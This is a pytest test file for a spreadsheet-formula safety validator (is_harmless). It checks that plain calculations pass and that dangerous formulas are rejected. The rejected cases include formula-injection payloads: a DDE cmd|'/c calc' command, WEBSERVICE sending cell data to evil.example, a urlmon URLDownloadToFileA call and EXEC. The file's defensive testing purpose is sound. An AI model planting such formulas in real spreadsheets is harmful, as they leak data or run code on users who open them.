from __future__ import annotations

import pytest

from aet_sheets.writing.annotated.formulas import is_harmless


@pytest.mark.parametrize(
    "formula",
    [
        "",
        "1+1",
        "=SUM(A1:A3)",
        "'Séances 2016'!A1",
        "'Feuil1:Feuil3'!A1",
        "COUNTA(T_Acteurs[Nom])",
        "COUNTA(T_Acteurs[[#This Row],[Type d''acteur]])&'S S'!A1",
        'IF(A1="[brouillon] | \\",1,0)',
        '_xlfn.TEXTJOIN(", ",TRUE,A1:A3)',
        "Liste_Oui_Non",
        "{1,2;3,4}",
    ],
)
def test_what_only_calculates_is_harmless(formula: str) -> None:
    assert is_harmless(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "[1]Feuil1!A1",
        "'[1]Feuil1'!A1",
        "'C:\\docs\\[a.xlsx]Feuil1'!A1",
        "'a[b.xlsx]Feuil1'!A1",
        "cmd|'/c calc'!A0",
        'WEBSERVICE("http://evil.example/"&A1)',
        'HYPERLINK("http://evil.example","ici")',
        "INDIRECT(A1)",
        'IF(1,EXEC("calc"))',
        'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,A1,A2)',
        'RTD("x",,"y")',
        "unefonctionamoi(A1)",
        '_xlfn.IMAGE("http://evil.example")',
        "'\\\\serveur\\partage\\a.xlsx'!A1",
    ],
)
def test_what_fetches_opens_or_runs_is_not(formula: str) -> None:
    assert not is_harmless(formula)


def test_a_name_that_stands_for_something_else_is_not() -> None:
    assert is_harmless("Ailleurs+1")
    assert not is_harmless("ailleurs+1", frozenset({"AILLEURS"}))
